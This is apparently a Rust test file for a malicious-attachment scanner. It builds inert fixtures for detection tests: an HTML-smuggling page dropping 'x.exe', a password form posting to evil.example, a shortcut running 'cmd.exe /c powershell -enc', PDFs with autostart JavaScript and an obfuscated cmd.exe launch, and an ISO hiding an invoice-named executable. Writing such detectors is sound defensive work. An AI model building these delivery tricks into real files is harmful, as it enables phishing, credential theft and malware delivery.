//! What is made to be clicked: pages, shortcuts, PDFs and disk images, made here.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::process::Command;

use data_encoding::BASE64;
use postern_sandbox::dissect;
use postern_sandbox::job::Job;
use support::documents::program;
use support::{names, run, told};

#[test]
fn a_page_that_makes_a_file_is_opened() {
    let page = format!(
        "<html><script>var d=atob('{}');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.exe'</script></html>",
        BASE64.encode(&program())
    );
    let report = run("invoice.html", page.as_bytes());
    assert_eq!(told(&report), [("HTML_SMUGGLING", "atob( and createobjecturl"), ("HTML_FILE", "WindowsProgram"), ("PROGRAM", "base64 0")]);
}

#[test]
fn a_page_that_asks_for_a_password_tells_where_it_goes() {
    let page = "<!DOCTYPE html><body><form method=post action='https://evil.example/a.php'><input type=\"password\" name=p></form></body>";
    assert_eq!(told(&run("login.htm", page.as_bytes())), [("HTML_PASSWORD_FORM", "https://evil.example/a.php")]);
    let redirect = "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head></html>";
    assert_eq!(names(&run("voice.html", redirect.as_bytes())), ["HTML_REDIRECT"]);
}

#[test]
fn an_honest_page_says_nothing() {
    let picture = BASE64.encode(&[b"\x89PNG\r\n\x1a\n".to_vec(), vec![7; 600]].concat());
    let page = format!(
        "<html><body><h1>News</h1><img src=\"data:image/png;base64,{picture}\"><a href=\"https://a.example/\">more</a></body></html>"
    );
    assert_eq!(told(&run("news.html", page.as_bytes())), []);
}

#[test]
fn a_shortcut_tells_what_it_starts() {
    let mut link = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    link.extend((1_u32 << 3 | 1 << 5 | 1 << 7).to_le_bytes());
    link.resize(0x4c, 0);
    for text in ["..\\..\\Windows\\System32\\cmd.exe", "/c      powershell -enc AAAA"] {
        link.extend(u16::try_from(text.len()).unwrap().to_le_bytes());
        link.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    }
    let report = run("document.pdf.lnk", &link);
    let command = "path ..\\..\\Windows\\System32\\cmd.exe, arguments /c powershell -enc AAAA";
    assert_eq!(told(&report), [("SHORTCUT", "document.pdf.lnk"), ("SHORTCUT_COMMAND", command)]);
    link.truncate(0x4c + 10);
    assert_eq!(names(&run("cut.lnk", &link)), ["SHORTCUT", "DAMAGED"]);
}

#[test]
fn a_pdf_that_acts_is_seen_through_its_writing_and_packing() {
    let packed = {
        use std::io::Write;
        let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        out.write_all(b"7 0 << /S /Launch /F (cmd.exe) >>").unwrap();
        out.finish().unwrap()
    };
    let file = [
        &b"%PDF-1.7\n1 0 obj << /OpenAction 2 0 R >> endobj\n2 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj\n"[..],
        b"3 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n",
        &packed,
        b"\nendstream endobj\n4 0 obj << /Type /EmbeddedFile >> stream\n",
        &program(),
        b"\nendstream endobj\n%%EOF",
    ]
    .concat();
    let report = run("offer.pdf", &file);
    assert_eq!(
        names(&report),
        ["PDF_SCRIPT", "PDF_SCRIPT", "PDF_AUTOSTART", "EMBEDDED_OBJECT", "PDF_LAUNCH", "PROGRAM"],
        "{:?}",
        told(&report)
    );
    assert_eq!(told(&run("plain.pdf", b"%PDF-1.4\n1 0 obj << /JSON 1 /AAA 2 >> endobj\n%%EOF")), [], "names that only begin so");
}

#[test]
fn a_disk_image_is_opened_with_its_long_names() {
    let folder = tempfile::tempdir().unwrap();
    let (tree, image) = (folder.path().join("tree"), folder.path().join("x.iso"));
    std::fs::create_dir_all(tree.join("documents")).unwrap();
    std::fs::write(tree.join("documents/Invoice of November.exe"), program()).unwrap();
    std::fs::write(tree.join("readme.txt"), "hello").unwrap();
    let made = Command::new("xorriso").args(["-as", "mkisofs", "-quiet", "-J", "-o"]).arg(&image).arg(&tree).output();
    if !made.is_ok_and(|m| m.status.success()) {
        println!("skipped: xorriso is not here");
        return;
    }
    let report = run("x.iso", &std::fs::read(&image).unwrap());
    let mut found: Vec<_> = report.parts.iter().map(|p| p.name.as_str()).collect();
    found.sort_unstable();
    assert_eq!(found, ["documents/Invoice of November.exe", "readme.txt", "x.iso"]);
    assert_eq!(names(&report), ["PROGRAM"]);
}

#[test]
fn what_the_mail_declares_is_held_against_it() {
    let declared = |content_type: &str, content: Vec<u8>| {
        dissect::run(&Job { name: "x".into(), content_type: content_type.into(), ..Job::default() }, content)
    };
    assert_eq!(told(&declared("image/png", program())), [("PROGRAM", "x"), ("TYPE_MISMATCH", "image/png is WindowsProgram")]);
    assert_eq!(told(&declared("application/pdf", b"%PDF-1.4\n%%EOF".to_vec())), []);
    assert_eq!(told(&declared("application/octet-stream", b"%PDF-1.4\n%%EOF".to_vec())), []);
}
